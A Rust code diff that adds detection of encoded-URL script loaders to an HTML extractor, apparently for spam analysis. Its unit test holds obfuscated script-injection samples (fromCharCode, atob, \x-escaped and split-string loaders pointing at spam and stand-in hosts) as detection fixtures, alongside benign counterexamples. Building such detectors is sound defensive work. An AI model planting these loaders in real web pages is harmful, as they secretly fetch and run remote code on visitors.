@@ -45,6 +45,9 @@ pub struct Extracted {
     /// Scripts that send visitors elsewhere or write content depending on
     /// the referrer, user agent or a cookie (`script.conditional-redirect`).
     pub conditional: Vec<script::Conditional>,
+    /// Scripts that load or navigate to an address they hold only encoded
+    /// (`script.encoded-url`).
+    pub encoded: Vec<script::Encoded>,
     /// Field `code` blocks, put after the page's other blocks at the end so
     /// that they do not stretch context windows between the page's text.
     code: Vec<Block>,
@@ -166,6 +169,11 @@ fn finish(mut st: State, base: &Url, hidden: &HiddenSelectors, ctx: Context, out
             out.conditional.push(c);
         }
     }
+    for e in st.encoded.drain(..) {
+        if out.encoded.len() < MAX_CONDITIONAL {
+            out.encoded.push(e);
+        }
+    }
     out.code.append(&mut st.code);
     out.decoded = script::MAX_DECODED - st.decode_left;
     let fragments = std::mem::take(&mut st.fragments);
@@ -280,6 +288,7 @@ struct State {
     script_sources: Vec<Url>,
     images: Vec<Url>,
     conditional: Vec<script::Conditional>,
+    encoded: Vec<script::Encoded>,
     fragments: Vec<(String, Option<Field>, bool)>,
     /// Link colour set by `<body link=…>`.
     link_ink: Option<Rgba>,
@@ -389,6 +398,7 @@ impl State {
             script_sources: Vec::new(),
             images: Vec::new(),
             conditional: Vec::new(),
+            encoded: Vec::new(),
             fragments: Vec::new(),
             link_ink: None,
             code: Vec::new(),
@@ -891,8 +901,12 @@ impl State {
     /// code it runs from strings (script-written `<script>`s are read as
     /// scripts of their own).
     fn script(&mut self, code: &str, hidden: bool) {
-        if let (_, Some(c)) = self.script_at(code, hidden, 0) {
+        let (_, conditional, encoded) = self.script_at(code, hidden, 0);
+        if let Some(c) = conditional {
             self.conditional.push(c);
+        }
+        if let Some(e) = encoded {
+            self.encoded.push(e);
         }
     }
 
@@ -906,7 +920,11 @@ impl State {
         code: &str,
         hidden: bool,
         level: u8,
-    ) -> (script::Behaviour, Option<script::Conditional>) {
+    ) -> (
+        script::Behaviour,
+        Option<script::Conditional>,
+        Option<script::Encoded>,
+    ) {
         let read = script::read(code, &mut self.decode_left);
         for l in &read.behaviour.loads {
             self.script_source(l);
@@ -932,9 +950,18 @@ impl State {
         }
         let mut behaviour = read.behaviour;
         let mut found = None;
+        let mut encoded = None;
         if level < MAX_NESTING {
             for (k, run) in read.evals.iter().enumerate() {
-                let (inner, inner_found) = self.script_at(run, hidden, level + 1);
+                let (mut inner, inner_found, inner_encoded) =
+                    self.script_at(run, hidden, level + 1);
+                if read.evals_hidden.get(k).copied().unwrap_or(false) {
+                    inner.hide_addresses();
+                    if encoded.is_none() {
+                        encoded = inner.encoded(&self.base);
+                    }
+                }
+                encoded = encoded.or(inner_encoded);
                 if found.is_none() && inner_found.is_some() {
                     found = inner_found;
                 } else {
@@ -945,7 +972,10 @@ impl State {
         if found.is_none() {
             found = behaviour.conditional(&self.base);
         }
-        (behaviour, found)
+        if encoded.is_none() {
+            encoded = behaviour.encoded(&self.base);
+        }
+        (behaviour, found, encoded)
     }
 
     fn closed(&mut self, node: Node) {
@@ -1179,6 +1209,48 @@ mod tests {
             sources,
             vec!["http://a.cn/left.html", "http://b.example/r.html"]
         );
+    }
+
+    #[test]
+    fn addresses_a_script_hides_and_loads_are_found() {
+        let page = Url::parse("http://www.example.gov.cn/").unwrap();
+        let terms = |html: &str| -> Vec<String> {
+            extract(html, &page)
+                .encoded
+                .iter()
+                .map(script::Encoded::term)
+                .collect()
+        };
+        // spam/129 (tune split, round 6): tag name and address as character
+        // codes (`script`, `https://jar.trafficbetter.biz/s.js`).
+        let codes = "<script>var sc = document.createElement(String.fromCharCode(115, 99, 114, 105, 112, 116)); sc.src=String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 106, 97, 114, 46, 116, 114, 97, 102, 102, 105, 99, 98, 101, 116, 116, 101, 114, 46, 98, 105, 122, 47, 115, 46, 106, 115); document.head.appendChild(sc);</script>";
+        assert_eq!(terms(codes), vec!["jar.trafficbetter.biz->src"]);
+        // atob into a navigation; a base64 literal a custom decoder feeds
+        // into `s.src`; letters as `\x` escapes; a host cut into literals.
+        let atob =
+            "<script>location.href = atob('aHR0cDovL3NwYW0uZXhhbXBsZS5jb20vP2E9MQ==');</script>";
+        assert_eq!(terms(atob), vec!["spam.example.com->location"]);
+        let custom = "<script>(function(u){var s=document.createElement('script');s.src=dec(u);document.head.appendChild(s)})('aHR0cHM6Ly9sb2FkZXIuZXhhbXBsZS5uZXQvYS5qcw==')</script>";
+        assert_eq!(terms(custom), vec!["loader.example.net->createElement+src"]);
+        let escaped = r#"<script>document.write('<script src="\x68\x74\x74\x70\x3a\x2f\x2f\x62\x61\x64\x2e\x65\x78\x61\x6d\x70\x6c\x65\x2e\x63\x6f\x6d/j.js"><\/script>')</script>"#;
+        assert_eq!(terms(escaped), vec!["bad.example.com->document.write"]);
+        let pieces = r#"<script>var u = "ht" + "tp://ev" + "il.exa" + "mple.com/x.js"; var s = document.createElement("script"); s.src = u;</script>"#;
+        assert_eq!(terms(pieces), vec!["evil.example.com->createElement+src"]);
+        // What sites write themselves: the government-site badge and CNZZ
+        // percent-encode the markup around an address the source shows;
+        // a template escapes only punctuation; a host built from a variable
+        // is not known; an icon decoded is no loader; the packer is a
+        // minifier; the page's own domain is not elsewhere.
+        for own in [
+            r#"<script>document.write(unescape("%3Cspan id='_ideConac' %3E%3C/span%3E%3Cscript src='http://dcs.conac.cn/js/20/305/0000/60078546/CA2030500006.js' type='text/javascript'%3E%3C/script%3E"));</script>"#,
+            r#"<script>var ok = "https\x3A\x2F\x2Foptimus\x2Dmtsi\x2Emeituan\x2Ecom\x2Fv"; el.innerHTML = '<a href="' + ok + '">x</a>';</script>"#,
+            r#"<script>var s = document.createElement("script"); s.src = "http://cdn." + domain + "/x.js";</script>"#,
+            "<script>var i = document.createElement('img'); i.src = atob('aHR0cHM6Ly93d3cuZ3N0YXRpYy5jb20vaW1hZ2VzL3dhcm5pbmcucG5n');</script>",
+            r#"<script>eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--)d[c]=k[c]||c;k=[function(e){return d[e]}];e=function(){return'\\w+'};c=1};while(c--)if(k[c])p=p.replace(new RegExp('\\b'+e(c)+'\\b','g'),k[c]);return p}('0.1("<2 3=\\"4://5.6.7/8.9\\"></2>")',10,10,'document|write|script|src|https|cdn|partner|com|w|js'.split('|'),0,{}))</script>"#,
+            "<script>window.location.href = atob('aHR0cDovL20uZXhhbXBsZS5nb3YuY24v');</script>",
+        ] {
+            assert!(terms(own).is_empty(), "{own}");
+        }
     }
 
     #[test]
